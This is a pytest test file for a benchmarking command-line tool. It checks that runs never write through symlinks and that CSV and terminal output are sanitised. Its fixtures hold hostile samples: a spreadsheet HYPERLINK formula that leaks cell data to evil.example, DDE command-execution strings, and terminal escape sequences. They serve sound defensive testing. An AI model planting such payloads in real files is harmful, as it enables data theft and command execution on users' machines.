"""Issue 26, part A: nothing written outside the run, nothing a plugin or a results file supplies
run by a terminal or a spreadsheet, nothing lost on resume, and clear names and messages."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
import results_factory as rf
from click.testing import CliRunner
from helpers import MeanLogReg, fake_entry_point, make_toy_dataset, toy_plugin
from test_robustness import one_line_error

from seqbench import DatasetSpec, MetricSpec, fileio, hookimpl
from seqbench.cli import main
from seqbench.plugins import load_plugins

REPO = Path(__file__).resolve().parents[1]
ESC = "\x1b"
TITLE = f"{ESC}]0;pwned\x07"  # OSC: sets the terminal's title
CLEAR = f"{ESC}[2J"  # CSI: clears the screen


def invoke(registry, *args, **kwargs):
    return CliRunner().invoke(main, [*map(str, args)], obj={"registry": registry}, **kwargs)


def toy_run(registry, out: Path, *extra) -> None:
    result = invoke(registry, "run", "-m", "logreg", "-d", "toy", "--out", out, *extra)
    assert result.exit_code == 0, result.output


@pytest.fixture
def victim(tmp_path) -> Path:
    """A file of the user's, outside any run, that a run must never write."""
    path = tmp_path / "precious.txt"
    path.write_text("precious\n")
    return path


# --- 1. symbolic links in a run directory -----------------------------------------------------


@pytest.mark.parametrize("planted", [fileio.LOCK_FILE, ".seqbench-write-test", "events.jsonl"])
def test_a_resume_never_writes_through_a_planted_symlink(toy_registry, tmp_path, victim, planted):
    out = tmp_path / "run"
    toy_run(toy_registry, out, "--no-plots")
    (out / planted).unlink(missing_ok=True)
    (out / planted).symlink_to(victim)
    result = invoke(toy_registry, "run", "--resume", out, "--no-plots")
    assert victim.read_text() == "precious\n", result.output
    assert (out / planted).is_symlink()  # left where it was, for the user to look at
    if planted == fileio.LOCK_FILE:
        one_line_error(result, "symbolic link", planted)
    else:
        assert result.exit_code == 0, result.output
    if planted == "events.jsonl":
        assert "symbolic link" in result.output


def test_a_lock_file_hard_linked_to_another_file_is_refused(toy_registry, tmp_path, victim):
    out = tmp_path / "run"
    toy_run(toy_registry, out, "--no-plots")
    os.link(victim, out / fileio.LOCK_FILE)
    one_line_error(invoke(toy_registry, "run", "--resume", out, "--no-plots"), "hard link")
    assert victim.read_text() == "precious\n"


@pytest.mark.parametrize("command", ["resume", "report"])
def test_a_plots_folder_that_is_a_symlink_is_refused(toy_registry, tmp_path, command):
    out, elsewhere = tmp_path / "run", tmp_path / "elsewhere"
    toy_run(toy_registry, out, "--no-plots")
    elsewhere.mkdir()
    (out / "plots").symlink_to(elsewhere, target_is_directory=True)
    args = ("run", "--resume", out) if command == "resume" else ("report", out)
    one_line_error(invoke(toy_registry, *args), "plots", "symbolic link")
    assert not list(elsewhere.iterdir())


# --- 2. formulas in CSV files -------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class _FormulaMetric:
    @hookimpl
    def register_metrics(self, register):
        register(MetricSpec("evil", lambda y, p, c, n: {"@sum": 1.0, "-neg": -0.5}, "a metric with hostile keys"))


def _csv_cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]


def test_csv_files_hold_no_live_formula_and_numbers_stay_numbers(monkeypatch, tmp_path):
    monkeypatch.setenv("SEQBENCH_BLOCK_PLUGINS", "datasets")
    toy = make_toy_dataset()
    toy = toy.__class__(**{**toy.__dict__, "class_names": (FORMULA, "+1+2", "@SUM(A1)")})
    registry = load_plugins(extra=[("toy", toy_plugin({"toy": toy})), ("evil", _FormulaMetric())])
    out = tmp_path / "run"
    toy_run(registry, out, "--no-plots")
    files = ["summary.csv", "per_class.csv", "records.csv", "timing.csv"]
    cells = {name: _csv_cells(out / name) for name in files}
    live = {
        name: [c for c in found if c[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", c)]
        for name, found in cells.items()
    }
    assert not any(live.values()), live
    assert {"'" + FORMULA, "'+1+2", "'@SUM(A1)"} <= set(cells["per_class.csv"])
    assert "-0.5" in cells["records.csv"]  # a negative number stays a number
    summary = next(iter(csv.DictReader(io.StringIO((out / "summary.csv").read_text()))))
    float(summary["accuracy_pct_mean"])


def test_a_crafted_results_file_cannot_plant_formulas_through_report(tmp_path):
    pair = rf.make_pair("m", "d", reason=None)
    pair["model"], pair["dataset"] = "=cmd|'/c calc'!A0", "@d"
    failed = rf.make_pair("m2", "d", status="failed", reason="-2+3+cmd|' /C calc'!A0")
    run = rf.write_run(tmp_path / "run", rf.make_results([pair, failed]))
    assert invoke(None, "report", run, "--no-plots").exit_code == 0
    for name in ("summary.csv", "per_class.csv", "timing.csv"):  # report writes no records.csv
        first = [c[:1] for c in _csv_cells(run / name)]
        assert not {"=", "@"} & set(first), name
    assert "'-2+3+cmd|' /C calc'!A0" in _csv_cells(run / "summary.csv")


# --- 3. terminal escapes ----------------------------------------------------------------------


def _hostile_results(tmp_path: Path, name: str) -> Path:
    pair = rf.make_pair(f"m{TITLE}", f"d{CLEAR}", class_names=[f"c{ESC}[31m{i}" for i in range(10)])
    failed = rf.make_pair("m2", "d", status="failed", reason=f"broke{TITLE}")
    return rf.write_run(tmp_path / name, rf.make_results([pair, failed]))


def test_report_and_compare_print_no_escape_sequence_from_a_results_file(tmp_path):
    base, new = _hostile_results(tmp_path, "base"), _hostile_results(tmp_path, "new")
    for args in (("report", base, "--no-plots"), ("report", base, "--no-plots", "--format", "csv"),
                 ("compare", base, new), ("compare", base, new, "--format", "csv")):
        result = invoke(None, *args)
        assert ESC not in result.output and "\x07" not in result.output, args
        assert "\\x1b" in result.output, args  # shown, not run


def test_list_and_run_print_no_escape_sequence_from_a_plugin(monkeypatch, tmp_path):
    class Broken(MeanLogReg):
        def train_batch(self, x, y):
            raise ValueError(f"no{CLEAR}")

    class Described:
        @hookimpl
        def register_datasets(self, register):
            register(DatasetSpec("toy", lambda ctx: make_toy_dataset(), f"toy{TITLE}"))

    monkeypatch.setenv("SEQBENCH_BLOCK_PLUGINS", "datasets")
    registry = load_plugins(extra=[("desc", Described()), ("toy", toy_plugin(
        datasets={}, models={"broken": lambda info, p: Broken(info.n_features, info.num_classes)}))])
    listed = invoke(registry, "list", "datasets")
    assert "toy" in listed.output and ESC not in listed.output
    result = invoke(registry, "run", "-m", "broken", "-d", "toy", "--out", tmp_path / "run", "--no-plots")
    assert "failed" in result.output and ESC not in result.output and "\\x1b[2J" in result.output


@pytest.mark.parametrize("field, fails", [(("epochs_run",), False), (("timing", "epoch_seconds_median"), True)])
def test_an_error_line_quoting_a_results_file_prints_no_escape_sequence(tmp_path, field, fails):
    """A field of the wrong type is a warning line (the loader leaves it out), a number that is not
    one an error line (the readers refuse it): neither prints the file's escape sequences."""
    run = rf.write_run(tmp_path / "run", rf.make_results([rf.make_pair(f"m{TITLE}", "d", accuracy=0.5)]))
    data = json.loads((run / "results.json").read_text())
    *parents, last = field
    obj = data["pairs"][0]
    for key in parents:
        obj = obj[key]
    obj[last] = f"x{CLEAR}"
    (run / "results.json").write_text(json.dumps(data))
    result = invoke(None, "report", run, "--no-plots")
    assert (result.exit_code != 0) == fails and ESC not in result.output, result.output
    assert fails or "seqbench: warning: " in result.output


# --- 4. an --out that is not a seqbench run; temporary files that are not ours ---------------


def test_a_non_empty_directory_that_is_no_run_is_refused_and_left_alone(toy_registry, tmp_path):
    out = tmp_path / "mine"
    out.mkdir()
    mine = {"summary.md": "my notes", "report.html": "<p>mine</p>", "records.csv": "a,b", ".draft.tmp": "x",
            "sub/.old.part": "y"}
    for name, text in mine.items():
        (out / name).parent.mkdir(exist_ok=True)
        (out / name).write_text(text)
    one_line_error(invoke(toy_registry, "run", "-m", "logreg", "-d", "toy", "--out", out), "not empty",
                   "--allow-nonempty-out")
    assert {n: (out / n).read_text() for n in mine} == mine and not (out / "events.jsonl").exists()
    toy_run(toy_registry, out, "--no-plots", "--allow-nonempty-out")
    assert (out / ".draft.tmp").exists() and (out / "sub/.old.part").exists()  # not ours: kept
    assert (out / "results.json").exists()


def test_a_run_deletes_only_its_own_stale_downloads_in_its_own_data_folders(toy_registry, tmp_path):
    data = tmp_path / "data"
    ours, browsers, elsewhere = data / "mnist" / ".t10k.gz.0a1b2c3d.part", data / "mnist" / ".video.part", \
        data / "downloads" / ".film.0a1b2c3d.part"
    for path in (ours, browsers, elsewhere):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("half")
        os.utime(path, (0, 0))
    toy_run(toy_registry, tmp_path / "run", "--no-plots", "--data-dir", data)
    assert not ours.exists() and browsers.exists() and elsewhere.exists()


def test_an_empty_directory_and_one_left_by_a_run_killed_at_once_are_fine(toy_registry, tmp_path):
    out = tmp_path / "empty"
    out.mkdir()
    (out / fileio.LOCK_FILE).write_text("12345\n")  # a run killed before it wrote anything
    (out / ".results.json.0a1b2c3d.tmp").write_text("{")
    (out / "events.jsonl").write_text('{"time": "2026-12-05T10:00:00.000+00:00", "event": "interrupted"}\n')
    toy_run(toy_registry, out, "--no-plots")
    assert not (out / ".results.json.0a1b2c3d.tmp").exists()
    other = tmp_path / "other"
    other.mkdir()
    (other / "events.jsonl").write_text("my own log, not seqbench's\n")
    one_line_error(
        invoke(toy_registry, "run", "-m", "logreg", "-d", "toy", "--out", other), "not empty", "events.jsonl"
    )


# --- 5. plots lost on resume ------------------------------------------------------------------


@pytest.mark.slow
def test_a_resume_draws_the_plots_a_killed_run_did_not(toy_registry, tmp_path):
    out = tmp_path / "run"
    toy_run(toy_registry, out, "--seeds", "0,1")
    pair_plots = sorted(p.name for p in (out / "plots").glob("*+seed*"))
    assert len(pair_plots) == 4  # confusion and curves of both seeds
    for path in (out / "plots").glob("*+seed1__*"):
        path.unlink()  # the record was written, then the run was killed before its plots
    result = invoke(toy_registry, "run", "--resume", out)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (out / "plots").glob("*+seed*")) == pair_plots


# --- 6. the default output directory ----------------------------------------------------------


def test_the_default_output_is_runs_in_the_current_directory_said_first(toy_registry, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = invoke(toy_registry, "run", "-m", "logreg", "-d", "toy", "--no-plots")
    assert result.exit_code == 0, result.output
    (run,) = (tmp_path / "runs").iterdir()
    assert re.fullmatch(r"\d{8}-\d{6}", run.name) and (run / "results.json").exists()
    assert not (tmp_path / "results").exists()
    assert result.output.splitlines()[0].endswith(f"writing results to {Path('runs') / run.name}")


def test_runs_is_ignored_by_git_and_the_docs_say_where_runs_go():
    assert "/runs/" in (REPO / ".gitignore").read_text().splitlines()
    running = (REPO / "docs" / "running.md").read_text()
    assert "Results go to `runs/<timestamp>/`" in running
    assert all("results/<timestamp>" not in (REPO / page).read_text() for page in ("README.md", "docs/running.md"))


# --- 14. names and messages -------------------------------------------------------------------

LONG = "m" + "o" * 238 + "l"  # a valid name of 240 characters


@pytest.mark.slow
@pytest.mark.filterwarnings("error::UserWarning")  # matplotlib's, when a long label squeezes the axes away
def test_a_long_model_name_runs_resumes_and_keeps_its_name(monkeypatch, tmp_path):
    monkeypatch.setenv("SEQBENCH_BLOCK_PLUGINS", "datasets")
    registry = load_plugins(extra=[("toy", toy_plugin(models={
        LONG: lambda info, p: MeanLogReg(info.n_features, info.num_classes, p["lr"], p["seed"]),
        LONG[:-1] + "x": lambda info, p: MeanLogReg(info.n_features, info.num_classes, p["lr"], p["seed"])}))])
    out = tmp_path / "run"
    result = invoke(registry, "run", "-m", LONG, "-m", LONG[:-1] + "x", "-d", "toy", "--out", out)
    assert result.exit_code == 0 and "could not write" not in result.output, result.output
    names = [p.name for p in out.rglob("*")]
    assert max(map(len, names)) < 200, max(names, key=len)
    assert len(list((out / "pairs").glob("*.json"))) == 2  # two long names that start alike stay apart
    stored = json.loads((out / "results.json").read_text())["pairs"]
    assert {p["model"] for p in stored} == {LONG, LONG[:-1] + "x"}
    resumed = invoke(registry, "run", "--resume", out)
    assert resumed.exit_code == 0 and "0 pair(s) to run (2 finished before)" in resumed.output, resumed.output


@pytest.mark.slow
def test_run_plot_names_and_report_ids_never_collide_for_names_with_double_underscores(tmp_path):
    from seqbench.reporting.plots import run_figures

    pairs = [rf.make_pair("a__b", "c"), rf.make_pair("a", "b__c")]
    names = [f.name for f in run_figures(rf.make_results(pairs))]
    assert len(names) == len(set(names)), names
    run = rf.write_run(tmp_path / "run", rf.make_results(pairs))
    assert invoke(None, "report", run).exit_code == 0
    page = (run / "report.html").read_text()
    ids = re.findall(r'id="([^"]+)"', page)
    assert len(ids) == len(set(ids))
    assert len(list((run / "plots").glob("confusion__*"))) == 2


def _config(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "run.toml"
    path.write_text(text)
    return path


def test_a_config_file_takes_a_number_of_workers(tmp_path):
    from seqbench.cli.run import read_config, run

    assert read_config(run, _config(tmp_path, "workers = 2\n"))["workers"] == 2
    with pytest.raises(Exception, match=r"'workers' in .*run\.toml must be an integer"):
        read_config(run, _config(tmp_path, 'workers = "two"\n'))


@pytest.mark.parametrize("seeds", ["[-1]", '"a,b"', "-2"])
def test_seed_errors_from_a_config_file_name_the_file(toy_registry, tmp_path, seeds):
    path = _config(tmp_path, f"seeds = {seeds}\n")
    result = invoke(toy_registry, "run", "--config", path, "-m", "logreg", "-d", "toy", "--dry-run")
    assert result.exit_code == 2 and str(path) in result.output and "'seeds'" in result.output, result.output


def test_a_huge_accuracy_in_a_record_is_one_clear_line(tmp_path):
    run = rf.write_run(tmp_path / "run", rf.make_results([rf.make_pair(seed=0), rf.make_pair(seed=1)]))
    data = json.loads((run / "results.json").read_text())
    for pair in data["pairs"]:
        pair["metrics"]["accuracy"]["accuracy"] = 1e308
    (run / "results.json").write_text(json.dumps(data))
    line = one_line_error(invoke(None, "report", run, "--no-plots"), "metrics.accuracy.accuracy", "[0, 1]")
    assert "AttributeError" not in line


def test_pairs_without_results_json_gets_one_message_from_run_and_resume(toy_registry, tmp_path):
    out = tmp_path / "run"
    (out / "pairs").mkdir(parents=True)
    first = one_line_error(invoke(toy_registry, "run", "-m", "logreg", "-d", "toy", "--out", out))
    again = one_line_error(invoke(toy_registry, "run", "--resume", out))
    assert first == again and "no results.json" in first and "cannot be resumed" in first


@pytest.mark.parametrize("option", ["--out", "--resume"])
def test_an_empty_output_path_is_refused(toy_registry, tmp_path, monkeypatch, option):
    monkeypatch.chdir(tmp_path)
    args = ("-m", "logreg", "-d", "toy") if option == "--out" else ()
    result = invoke(toy_registry, "run", *args, option, "")
    assert result.exit_code == 2 and "empty path" in result.output, result.output
    assert not list(tmp_path.iterdir())


def test_a_dangling_symlink_or_a_file_as_out_is_a_clear_line(toy_registry, tmp_path):
    dangling, file = tmp_path / "link", tmp_path / "file"
    dangling.symlink_to(tmp_path / "gone")
    file.write_text("x")
    for out, fragment in ((dangling, "symbolic link"), (file, "is a file")):
        line = one_line_error(invoke(toy_registry, "run", "-m", "logreg", "-d", "toy", "--out", out), fragment)
        assert "File exists" not in line


def test_a_failed_fetch_suggests_the_same_data_dir(monkeypatch, tmp_path):
    from seqbench.datasets import loader
    from seqbench.datasets.download import DownloadError

    def offline(*args, **kwargs):
        raise DownloadError("no network")

    monkeypatch.setattr(loader, "download", offline)
    data = tmp_path / "my data"
    result = CliRunner().invoke(main, ["data", "fetch", "mnist", "--data-dir", str(data)])
    assert result.exit_code == 1
    assert f"seqbench data fetch mnist --data-dir '{data}'" in result.output, result.output


def test_a_plugin_that_fails_to_load_is_named_with_the_entry_point_to_block(monkeypatch, capsys):
    import seqbench.plugins as plugins_mod

    def load():
        raise ImportError("no module named torchh")

    monkeypatch.setattr(
        plugins_mod, "_entry_points", lambda: [fake_entry_point("quitter", "seqbench-quitter", "1", load)]
    )
    monkeypatch.delenv("SEQBENCH_LOAD_PLUGINS")
    load_plugins()
    assert "SEQBENCH_BLOCK_PLUGINS=quitter" in capsys.readouterr().err


@pytest.mark.parametrize("p", [0.0, 5e-324, 1e-310])
def test_an_underflowed_p_value_prints_a_bound(p):
    from seqbench.reporting.compare import render

    assert render._p_value(p) == "< 1e-300"
    assert render.p_text(p) == "p < 1e-300" and render.p_text(0.0123) == "p = 0.012"
